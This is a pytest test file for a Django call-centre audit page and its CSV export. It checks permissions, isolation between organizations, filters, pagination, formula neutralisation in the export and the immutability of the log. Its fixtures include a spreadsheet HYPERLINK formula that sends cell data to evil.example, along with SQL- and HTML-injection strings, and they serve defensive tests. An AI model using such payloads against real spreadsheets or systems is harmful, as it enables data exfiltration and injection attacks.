"""The audit over HTTP: the page and its CSV for the reader's own organization, the filters as
query parameters, errors a person can read, pages of 50, and an audit nobody can change."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import timedelta
from html import unescape
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import Permission, User
from django.http import StreamingHttpResponse
from django.test import AsyncClient, Client

from calls.audit import CSV_COLUMNS
from calls.models import BargeInAttempt, Organization, Supervisor
from tests.audit_log import ACME_ROWS, EVERY_ROW, GLOBEX_ROWS, NOW, add_attempt, seed_audit

pytestmark = pytest.mark.django_db(transaction=True)

PAGE, EXPORT = "/audit/", "/audit/export.csv"


@pytest.fixture
def log(world: Any) -> dict[str, BargeInAttempt]:
    return seed_audit()


def client_of(username: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(username=username))
    return client


async def async_client_of(username: str) -> AsyncClient:
    client = AsyncClient()
    user = await User.objects.aget(username=username)
    await sync_to_async(client.force_login)(user)
    return client


def listed(html: str) -> list[str]:
    """The call ids of the rows on the page, in order."""
    return [unescape(c) for c in re.findall(r'<td class="call"><code>(.*?)</code>', html)]


def calls_of(log: dict[str, BargeInAttempt], rows: list[str]) -> list[str]:
    return [log[name].phone_call_id for name in rows]


async def csv_body(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming is True
    content = response.streaming_content
    assert isinstance(content, AsyncIterator), "streamed as daphne streams: asynchronously"
    text = b"".join([chunk async for chunk in content]).decode()
    return list(csv.reader(io.StringIO(text)))


def exported_calls(rows: list[list[str]]) -> list[str]:
    return [r[CSV_COLUMNS.index("call id")] for r in rows[1:]]


def without_the_right(username: str, organization: str = "Acme") -> User:
    user = User.objects.create_user(username, password="x")
    Supervisor.objects.create(user=user, organization=Organization.objects.get(name=organization))
    return user


# ---- who gets in ---------------------------------------------------------------------------


def test_the_audit_and_its_export_need_a_login(log: dict[str, BargeInAttempt]) -> None:
    for path in (PAGE, EXPORT + "?mode=listen"):
        response = Client().get(path)
        assert response.status_code == 302, path
        assert response["Location"].startswith("/accounts/login/?next=/audit/")


def test_a_supervisor_without_the_right_is_refused(log: dict[str, BargeInAttempt]) -> None:
    without_the_right("carol")
    page = client_of("carol").get(PAGE)
    assert page.status_code == 403
    assert "You are not allowed to read the audit." in page.content.decode()
    assert listed(page.content.decode()) == []
    export = client_of("carol").get(EXPORT)
    assert export.status_code == 403
    assert b"acme-" not in export.content


def test_staff_holding_the_right_without_an_organization_are_refused(
    log: dict[str, BargeInAttempt],
) -> None:
    pat = User.objects.create_user("pat", password="x", is_staff=True)
    pat.user_permissions.add(Permission.objects.get(codename="view_bargeinattempt"))
    assert client_of("pat").get(PAGE).status_code == 403
    assert client_of("pat").get(EXPORT).status_code == 403


def test_the_live_page_links_to_the_audit_for_those_who_may_read_it(
    log: dict[str, BargeInAttempt],
) -> None:
    link = 'href="/audit/"'
    assert link in client_of("alice").get("/").content.decode()
    without_the_right("carol")
    assert link not in client_of("carol").get("/").content.decode()


def test_the_demo_supervisors_hold_the_right(world: Any) -> None:
    assert User.objects.get(username="alice").has_perm("calls.view_bargeinattempt")
    assert User.objects.get(username="bob").has_perm("calls.view_bargeinattempt")


# ---- the organization boundary -------------------------------------------------------------


def test_alice_reads_acmes_rows_and_never_globexs(log: dict[str, BargeInAttempt]) -> None:
    html = client_of("alice").get(PAGE).content.decode()
    assert listed(html) == calls_of(log, ACME_ROWS)
    for leak in ("globex-", "Globex", "0002*", "Bob&#x27;s secret reason", "Bob's secret"):
        assert leak not in html, leak
    supervisors = re.findall(r'<td class="supervisor">(.*?)</td>', html)
    assert set(supervisors) == {"alice", "dana"}
    offered = re.search(r'<datalist id="audit-supervisors">(.*?)</datalist>', html, re.S)
    assert offered is not None
    assert re.findall(r'value="(.*?)"', offered.group(1)) == ["alice"]


@pytest.mark.parametrize(
    "query",
    [
        "supervisor=bob",
        "agent=0002*201",
        "queue=0002*100",
        "mode=listen&from=2025-03-05",
    ],
)
def test_filtering_by_another_organizations_values_finds_nothing(
    log: dict[str, BargeInAttempt], query: str
) -> None:
    response = client_of("alice").get(f"{PAGE}?{query}")
    assert response.status_code == 200
    assert listed(response.content.decode()) == []
    assert "No attempt matches these filters." in response.content.decode()


def test_a_supervisor_cannot_choose_another_organization(log: dict[str, BargeInAttempt]) -> None:
    globex = Organization.objects.get(name="Globex")
    html = client_of("alice").get(f"{PAGE}?organization={globex.pk}").content.decode()
    assert 'name="organization"' not in html
    assert listed(html) == calls_of(log, ACME_ROWS)


async def test_alices_export_never_holds_globexs_rows(log: dict[str, BargeInAttempt]) -> None:
    client = await async_client_of("alice")
    every = await csv_body(await client.get(EXPORT))
    assert exported_calls(every) == calls_of(log, ACME_ROWS)
    assert "bob" not in {r[CSV_COLUMNS.index("supervisor")] for r in every}
    for query in ("supervisor=bob", "queue=0002*100", "agent=0002*201"):
        assert exported_calls(await csv_body(await client.get(f"{EXPORT}?{query}"))) == []


def test_a_superuser_reads_every_organization_and_filters_by_one(
    log: dict[str, BargeInAttempt],
) -> None:
    admin = client_of("admin")
    html = admin.get(PAGE).content.decode()
    assert listed(html) == calls_of(log, EVERY_ROW)
    assert '<th scope="col">Organization</th>' in html
    globex = Organization.objects.get(name="Globex")
    narrowed = admin.get(f"{PAGE}?organization={globex.pk}").content.decode()
    assert listed(narrowed) == calls_of(log, GLOBEX_ROWS)
    assert f'<option value="{globex.pk}" selected>Globex</option>' in narrowed


async def test_a_superusers_export_dates_each_row_in_its_organizations_zone(
    log: dict[str, BargeInAttempt],
) -> None:
    client = await async_client_of("admin")
    rows = await csv_body(await client.get(EXPORT + "?from=2025-03-04&to=2025-03-04"))
    assert exported_calls(rows) == calls_of(log, ["joined", "sales", "billing", "support"])
    billing = dict(zip(CSV_COLUMNS, rows[3], strict=True))
    assert (billing["organization"], billing["at"]) == ("Globex", "2025-03-04T22:55:00+09:00")


# ---- the filters and the rows --------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("supervisor=dana", ["direct"]),
        ("agent=0001*201", ["joined", "sales"]),
        ("queue=0001*101", ["support"]),
        ("mode=listen", ["joined", "support"]),
        ("outcome=refused", ["direct"]),
        ("from=2025-03-04&to=2025-03-04", ["joined", "sales", "support"]),
        ("to=2025-03-03", ["direct"]),
        ("mode=listen&outcome=accepted&queue=0001*100&supervisor=alice", ["joined"]),
        ("mode=&outcome=&supervisor=&agent=&queue=&from=&to=", ACME_ROWS),
    ],
)
def test_each_filter_on_the_page(
    log: dict[str, BargeInAttempt], query: str, expected: list[str]
) -> None:
    response = client_of("alice").get(f"{PAGE}?{query}")
    assert response.status_code == 200
    assert listed(response.content.decode()) == calls_of(log, expected)


@pytest.mark.parametrize(
    ("query", "error"),
    [
        ("mode=shout", "Select a valid choice. shout is not one of the available choices."),
        ("outcome=%3Cb%3E", "Select a valid choice. &lt;b&gt; is not one of the available"),
        ("agent=Ann", "Enter an extension such as 0001*201."),
        ("queue=0001*100%27--", "Enter an extension such as 0001*201."),
        ("from=2025-02-30", "Enter a valid date."),
        ("from=2025-03-05&to=2025-03-04", "The end date is before the start date."),
    ],
)
def test_a_filter_that_makes_no_sense_is_answered_with_an_error_to_read(
    log: dict[str, BargeInAttempt], query: str, error: str
) -> None:
    response = client_of("alice").get(f"{PAGE}?{query}")
    assert response.status_code == 400
    html = response.content.decode()
    assert error in html
    assert 'role="alert"' in html
    assert listed(html) == []
    assert client_of("alice").get(f"{EXPORT}?{query}").status_code == 400


def test_a_row_shows_who_when_from_where_on_which_call_and_how_it_went(
    log: dict[str, BargeInAttempt],
) -> None:
    html = client_of("alice").get(f"{PAGE}?queue=0001*100").content.decode()
    sales = re.search(rf'<tr id="attempt-{log["sales"].pk}".*?</tr>', html, re.S)
    assert sales is not None
    cells = [
        re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", c)).strip()
        for c in re.findall(r"<td[^>]*>(.*?)</td>", sales.group(0), re.S)
    ]
    assert cells == [
        "2025-03-04 09:00:00 EST",
        "alice",
        "0001*024 10.0.0.7",
        "acme-sales-1",
        "Ann 0001*201",
        "Sales 0001*100",
        "Barge in",
        "Accepted by VoipNow",
        "Escalation requested",
        "1:05 Left the call",
    ]
    support = client_of("alice").get(f"{PAGE}?queue=0001*101").content.decode()
    assert "pc_phonecall_invalid" in support
    assert "The call ended before your phone could join." in support
    direct = client_of("alice").get(f"{PAGE}?supervisor=dana").content.decode()
    assert ">none</span>" in direct, "a call that went through no queue says so"
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in direct


def test_the_page_carries_no_inline_script_style_or_handler(log: dict[str, BargeInAttempt]) -> None:
    html = client_of("admin").get(PAGE).content.decode()
    assert re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html) is None
    assert " style=" not in html
    assert re.search(r"\son[a-z]+=", html) is None
    assert 'href="/static/audit.css"' in html


# ---- pages ---------------------------------------------------------------------------------


def many(count: int) -> None:
    acme = Organization.objects.get(name="Acme")
    for i in range(count):
        add_attempt(
            acme,
            "alice",
            f"bulk-{i:03d}",
            NOW - timedelta(days=2, seconds=i),
            mode="whisper",
            outcome="accepted",
        )


def test_the_audit_comes_in_pages_of_50_that_keep_the_filters(
    log: dict[str, BargeInAttempt],
) -> None:
    many(120)
    # "direct", the only whisper of the log, then the 120 older ones.
    whispers = ["acme-direct"] + [f"bulk-{i:03d}" for i in range(120)]
    client = client_of("alice")
    first = client.get(f"{PAGE}?mode=whisper").content.decode()
    assert listed(first) == whispers[:50]
    assert "121 attempts" in first
    assert "Page 1 of 3" in first
    next_link = re.search(r'<a rel="next" href="([^"]+)"', first)
    assert next_link is not None
    assert unescape(next_link.group(1)) == "?mode=whisper&page=2"

    last = client.get(f"{PAGE}?mode=whisper&page=3").content.decode()
    assert listed(last) == whispers[100:]
    previous = re.search(r'<a rel="prev" href="([^"]+)"', last)
    assert previous is not None
    assert unescape(previous.group(1)) == "?mode=whisper&page=2"
    assert 'rel="next"' not in last
    export = re.search(r'<a class="export" href="([^"]+)"', last)
    assert export is not None
    assert unescape(export.group(1)) == "/audit/export.csv?mode=whisper", "the export is every page"
    # A page past the end, or none at all, shows the last or the first.
    assert listed(client.get(f"{PAGE}?mode=whisper&page=99").content.decode()) == listed(last)
    assert listed(client.get(f"{PAGE}?mode=whisper&page=x").content.decode()) == listed(first)


# ---- the export ----------------------------------------------------------------------------


async def test_the_export_streams_the_rows_the_page_lists(log: dict[str, BargeInAttempt]) -> None:
    client = await async_client_of("alice")
    query = "?mode=listen&from=2025-03-04"
    page = await client.get(PAGE + query)
    response = await client.get(EXPORT + query)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"', response["Content-Disposition"]
    )
    rows = await csv_body(response)
    assert rows[0] == list(CSV_COLUMNS)
    assert exported_calls(rows) == listed(page.content.decode())
    assert exported_calls(rows) == ["acme-sales-2", "acme-support-1"]
    joined = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert joined["at"] == "2025-03-04T09:50:00-05:00"
    assert (joined["joined"], joined["left"]) == ("2025-03-04T09:51:00-05:00", "")


async def test_the_export_neutralises_formulas(log: dict[str, BargeInAttempt]) -> None:
    await sync_to_async(add_attempt)(
        await Organization.objects.aget(name="Acme"),
        "@alice",
        "-1+1",
        NOW,
        caller_id="+Eve <1>",
        reason="\tcmd",
        message="\r=2",
    )
    client = await async_client_of("alice")
    rows = await csv_body(await client.get(EXPORT + "?from=2025-03-04&to=2025-03-04"))
    first = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert (first["supervisor"], first["call id"], first["caller id"]) == (
        "'@alice",
        "'-1+1",
        "'+Eve <1>",
    )
    assert (first["reason"], first["message"]) == ("'\tcmd", "'\r=2")
    direct = await csv_body(await client.get(EXPORT + "?supervisor=dana"))
    assert direct[1][CSV_COLUMNS.index("reason")].startswith("'=HYPERLINK(")


async def test_a_long_audit_is_streamed_whole_in_parts(log: dict[str, BargeInAttempt]) -> None:
    await sync_to_async(many)(1200)
    client = await async_client_of("alice")
    response = await client.get(EXPORT + "?mode=whisper")
    assert isinstance(response, StreamingHttpResponse)
    parts = [chunk async for chunk in response.streaming_content]
    assert len(parts) >= 3, "sent a batch at a time, not the audit at once"
    rows = list(csv.reader(io.StringIO(b"".join(parts).decode())))
    assert len(rows) == 1 + 1200 + 1, "no row limit"


# ---- an audit nobody changes ---------------------------------------------------------------


def test_a_superuser_cannot_change_an_attempt_in_the_admin(log: dict[str, BargeInAttempt]) -> None:
    row = log["sales"]
    before = BargeInAttempt.objects.filter(pk=row.pk).values().get()
    admin = client_of("admin")
    response = admin.post(
        f"/admin/calls/bargeinattempt/{row.pk}/change/",
        {**{k: v for k, v in before.items() if v is not None}, "outcome": "refused", "reason": ""},
    )
    assert response.status_code == 403
    assert BargeInAttempt.objects.filter(pk=row.pk).values().get() == before
    page = admin.get(f"/admin/calls/bargeinattempt/{row.pk}/change/").content.decode()
    assert 'name="_save"' not in page, "shown to read, without a save button"


def test_a_superuser_cannot_delete_an_attempt_in_the_admin(log: dict[str, BargeInAttempt]) -> None:
    row = log["sales"]
    admin = client_of("admin")
    url = f"/admin/calls/bargeinattempt/{row.pk}/delete/"
    assert admin.get(url).status_code == 403
    assert admin.post(url, {"post": "yes"}).status_code == 403
    assert BargeInAttempt.objects.filter(pk=row.pk).exists()


def test_the_admins_list_offers_no_delete_action(log: dict[str, BargeInAttempt]) -> None:
    admin = client_of("admin")
    listing = admin.get("/admin/calls/bargeinattempt/")
    assert listing.status_code == 200
    html = listing.content.decode()
    assert "delete_selected" not in html
    assert 'name="action"' not in html
    response = admin.post(
        "/admin/calls/bargeinattempt/",
        {
            "action": "delete_selected",
            "_selected_action": [r.pk for r in log.values()],
            "post": "yes",
        },
    )
    assert response.status_code in (200, 302)
    assert BargeInAttempt.objects.count() == len(log)
    assert admin.get("/admin/calls/bargeinattempt/add/").status_code == 403
    assert admin.post("/admin/calls/bargeinattempt/add/", {"username": "x"}).status_code == 403
    assert BargeInAttempt.objects.count() == len(log)


def test_the_audit_page_offers_no_write(log: dict[str, BargeInAttempt]) -> None:
    client = client_of("admin")
    html = client.get(PAGE).content.decode()
    posting = re.findall(r'<form[^>]*method="post"[^>]*>', html, re.I)
    assert posting == ['<form method="post" action="/accounts/logout/" class="inline">']
    assert 'id="audit-filters"' in html
    assert re.search(r'<form method="get" action="/audit/" id="audit-filters"', html)
    before = list(BargeInAttempt.objects.values())
    for method in (client.post, client.put, client.delete):
        assert method(PAGE).status_code == 405
        assert method(EXPORT).status_code == 405
    assert list(BargeInAttempt.objects.values()) == before
